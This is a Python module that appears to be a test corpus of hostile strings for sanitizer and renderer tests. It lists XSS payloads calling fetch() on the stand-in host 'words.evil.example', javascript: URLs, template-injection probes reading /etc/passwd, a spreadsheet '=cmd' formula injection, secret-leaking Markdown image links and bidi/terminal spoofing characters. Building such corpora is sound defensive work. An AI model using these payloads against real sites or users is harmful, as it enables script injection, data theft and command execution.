"""Two hundred and fifty strings that mean harm somewhere: to HTML, XML, Markdown, JSON, scripts, feeds, spreadsheets and eyes.

Whatever they ask for is at WORDS; a link to it in anything that was made from them is a hole. Addresses that only a
field for addresses may hold are in ADDRESSES.
"""

# ruff: noqa: E501  # what a hostile string is made of reads better on one line

from __future__ import annotations

from urllib.parse import quote

WORDS = "words.evil.example"
_RUN = f"fetch('//{WORDS}')"
_HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onbeforetoggle", "onanimationstart")
_QUOTES = ("", "'", '"', "`", "'>", '">', "'/>", '"/>')

ELEMENTS = (
    f"<script>{_RUN}</script>", f"<script src=//{WORDS}/x.js></script>", f"<SCRIPT SRC='https://{WORDS}/x'></SCRIPT>",
    f"<scr<script>ipt>{_RUN}</script>", f"<script/x>{_RUN}</script >", f"<script\n>{_RUN}</script\n>", "<script",
    f"<script type=module>import '//{WORDS}'</script>", f"<img src=x onerror={_RUN}>", f"<img src=//{WORDS}/p.png>",
    f"<img srcset='//{WORDS}/p 1x'>", f"<svg onload={_RUN}>", f"<svg><script>{_RUN}</script></svg>",
    f"<svg><use href='//{WORDS}/x.svg#y'/></svg>", f"<svg><a xlink:href='javascript:{_RUN}'><text>x</text></a></svg>",
    f"<svg><animate attributeName=href values=javascript:{_RUN}></svg>", f"<math><mi xlink:href='javascript:{_RUN}'>x</mi>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>", f"<iframe src=//{WORDS}></iframe>",
    f"<iframe srcdoc='<script>{_RUN}</script>'>", f"<object data=//{WORDS}></object>", f"<embed src=//{WORDS}>",
    f"<base href=//{WORDS}/>", f"<link rel=stylesheet href=//{WORDS}/x.css>", f"<meta http-equiv=refresh content='0;//{WORDS}'>",
    f"<form action=//{WORDS}><button>x</button></form>", f"<button formaction=javascript:{_RUN}>x</button>",
    f"<input autofocus onfocus={_RUN}>", f"<details open ontoggle={_RUN}>x</details>", f"<video src=//{WORDS} autoplay></video>",
    f"<audio src=x onerror={_RUN}>", f"<body onload={_RUN}>", f"<marquee onstart={_RUN}>x</marquee>",
    f"<style>@import '//{WORDS}/x.css';</style>", f"<p style=\"background:url(//{WORDS})\">x</p>",
    f"<a href=javascript:{_RUN}>x</a>", f"<a href=//{WORDS}>x</a>", f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror={_RUN}>\">", f"<textarea><img title='</textarea><svg onload={_RUN}>'>",
    f"<title><img title='</title><svg onload={_RUN}>'>", f"<xmp><img title='</xmp><img src=x onerror={_RUN}>'>",
    f"<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror={_RUN}>'>",
    f"<annotation-xml encoding='text/html'><img src=x onerror={_RUN}></annotation-xml>", f"<?xml-stylesheet href='//{WORDS}'?>",
    f"<div popover id=content onbeforetoggle={_RUN}>", f"<dialog open>x</dialog><isindex action=//{WORDS}>", "<plaintext>",
    f"</p></div></main><script>{_RUN}</script>", f"</title></style></textarea></script><svg/onload={_RUN}>",
    f"</script><script>{_RUN}</script>", f"<!--><img src=x onerror={_RUN}>-->", f"<![CDATA[<script>{_RUN}</script>]]>",
    f"]]><script>{_RUN}</script>", f"--><script>{_RUN}</script>", f"--!><img src=x onerror={_RUN}>", "<!--", "-->", "<![CDATA[", "]]>",
    f"<div><template shadowrootmode=open><script>{_RUN}</script></template></div>", f"<fencedframe src=//{WORDS}></fencedframe>",
    f"<frameset onload={_RUN}>", f"<frame src=//{WORDS}>", f"<applet code=//{WORDS}/x></applet>", f"<bgsound src=//{WORDS}>",
    f"<image src=//{WORDS}/p.png onerror={_RUN}>", f"<track src=//{WORDS}/x.vtt>", f"<source srcset=//{WORDS}/p.png>",
    f"<a href=https://{WORDS} ping=//{WORDS}>x</a>", f"<area href=//{WORDS} shape=default>", f"<q cite=//{WORDS}>x</q>",
    f"<svg><foreignObject><iframe src=//{WORDS}></iframe></foreignObject></svg>", f"<svg><set attributeName=onmouseover to={_RUN}></svg>",
    f"<svg><image href=//{WORDS}/p.svg></svg>", f"<svg><style>*{{background:url(//{WORDS})}}</style></svg>",
    f"<math href=javascript:{_RUN}>x</math>", f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"<link rel=preload as=image href=//{WORDS}/p.png>", f"<link rel=dns-prefetch href=//{WORDS}>", f"<meta charset=utf-7><script>{_RUN}</script>",
    f"<meta property=og:image content=//{WORDS}/p.png>", f"<script type=speculationrules>{{\"prefetch\":[\"//{WORDS}\"]}}</script>",
    f"<script type=application/ld+json>{{\"url\":\"//{WORDS}\"}}</script>", f"<script type=importmap>{{\"imports\":{{\"a\":\"//{WORDS}\"}}}}</script>",
    "<?php echo 1 ?>", "<%= 7*7 %>", f"<portal src=//{WORDS}>", f"<x onclick={_RUN} tabindex=1>x</x>", "<br/><hr/><wbr>", "<b>bold</b>",
)  # fmt: skip
ATTRIBUTES = tuple(f"{mark} {name}={_RUN} x={mark}" for mark in _QUOTES[1:5] for name in _HANDLERS)
ENCODED = (
    f"&lt;script&gt;{_RUN}&lt;/script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;", "&amp;lt;script&amp;gt;", "&quot; onload=x",
    "\\u003cscript\\u003e", "\\x3cscript\\x3e", "%3Cscript%3E", "\uff1cscript\uff1e", "+ADw-script+AD4-", "&NewLine;&Tab;javascript&colon;x",
    "&nonsense;", "&#0;", "&#xD800;", "&#1114112;", "&", "&&amp;", "<", ">", '"', "'", "\\", "\\'\\\"", "\u2028\u2029", "</", "<!", "<?",
    "${alert(1)}", "`${alert(1)}`", "{{ 7*7 }}", "{% include '/etc/passwd' %}", "{{ config.__class__.__mro__ }}", "#{7*7}", "<%- x %>",
    "&lt;![CDATA[", "\\074script\\076", "&amp;#x26;lt;script", "\u00bcscript\u00be", "<\u2028script>", "<scr\x00ipt>", "%253Cscript%253E",
    '","evil":"1', '"}]});alert(1);//', "');alert(1);//", '\\");alert(1);//', "__proto__", "constructor", "[object Object]", "null", "undefined",
)  # fmt: skip
MARKDOWN = (
    f"[x](//{WORDS})", f"[x](https://{WORDS})", f"![x](https://{WORDS}/p.png?q=secret)", f"<https://{WORDS}>", f"https://{WORDS}/x",
    f"www.{WORDS}", f"[a]: https://{WORDS}", "[a][a]", f"[a]: <javascript:{_RUN}> 'x'", f"![a][b]\n\n[b]: https://{WORDS}/p?d=secret",
    "*a* _b_ **c** ~~d~~", "# head", "###### head", "1. one", "2) two", "- item", "+ item", "* item", "> quote", "```\ncode\n```", "~~~\ncode",
    "`code`", "a | b\n--|--\n1 | 2", "---", "===", "***", "[^1]: note[^1]", "\\[x]\\(y)", f"a@{WORDS}", f"<a@{WORDS}>", f"mailto:a@{WORDS}",
    f"<https://{WORDS}/?q=`x`>", f"[x]( <//{WORDS}> )", f"[![x](//{WORDS}/p)](//{WORDS})", f"[x][a]\n\n  [A]:\n  //{WORDS}", f"*[HTML]: //{WORDS}",
    f"ftp://{WORDS}/x", "<!-- note -->", "\\", "| a |\n|---|\n| b |", "Head\n====", "Term\n: meaning", "&lt;b&gt;*x*", "\ufeff# head",
    "$x^2$", "    code", "a  \nb", ":---", "- [ ] task", "{#id .class}", ":::note", "!!! warning", "[[wiki]]", ":smile:", "^sup^", "==mark==",
)  # fmt: skip
EYES = (
    "\u202egnp.exe\u202c", "\u2066\u2067\u2068\u2069", "\u200b\u200c\u200d\u2060\ufeff", "\U000e0041\U000e0042\U000e007f", "\x00\x01\x08\x0b",
    "\x1b[31mred\x1b[0m", "\x1b]8;;https://words.evil.example\x07x\x1b]8;;\x07", "\x7f\x80\x9f", "\ufffe\uffff", "a" + "\u0301" * 300,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 20, "w" * 400, "\u0430\u0440\u0440le.example", "\r\n\r\nHTTP/1.1 200 OK", "a\tb\fc\x85d", " ",
    "\u061c\u200e\u200f", "\ufe0f\ufe0e\U000e0100", "\u115f\u3164\uffa0", "\ufff9a\ufffab\ufffb", "\x9b31mred", "\x1bP1$r0m\x1b\\", "\u3000\u2800\u00a0",
)  # fmt: skip
CELLS = ("=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "-2+3", "=HYPERLINK(\"https://words.evil.example\")", "../../etc/passwd", "CON", "a;b,c\"d")  # fmt: skip
STRINGS = tuple(dict.fromkeys((*ELEMENTS, *ATTRIBUTES, *ENCODED, *MARKDOWN, *EYES, *CELLS)))

_SCHEMES = (
    "javascript",
    "JaVaScRiPt",
    "data",
    "vbscript",
    "file",
    "blob",
    "about",
    "mailto",
    "tel",
    "ftp",
    "view-source",
    "jar",
    "ws",
)
ADDRESSES = (
    *(f"{scheme}:{rest}" for scheme in _SCHEMES for rest in ("alert(1)", "//words.evil.example/%0aalert(1)")),
    *(f"{mark}javascript:alert(1)" for mark in (" ", "\t", "\n", "\x00", "\x01", "\u200b", "\ufeff", "java\tscript:x ", "\\")),
    "java\nscript:alert(1)", "&#106;avascript:alert(1)", "javascript&colon;alert(1)", quote("javascript:alert(1)"), "data:text/html,<script>x",
    "//words.evil.example/x", "\\\\words.evil.example\\x", "/\\words.evil.example", "https:words.evil.example", "https:/\\words.evil.example",
    "https://user:secret@words.evil.example/", "https://harbour.example@words.evil.example/", "https://[::1", "https://", "https:///x", "", "#",
    "../../../x", "x.html", "?q=1", 'https://harbour.example/" onclick="x', "https://harbour.example/<script>x</script>", "http://%zz/",
)  # fmt: skip
